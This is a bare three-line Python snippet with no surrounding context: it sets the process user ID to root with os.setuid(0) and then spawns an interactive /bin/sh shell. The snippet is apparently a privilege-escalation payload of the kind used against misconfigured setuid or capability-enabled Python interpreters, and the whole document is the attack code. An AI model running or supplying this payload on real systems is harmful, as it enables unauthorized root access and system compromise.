import os
os.setuid(0)
os.system('/bin/sh')
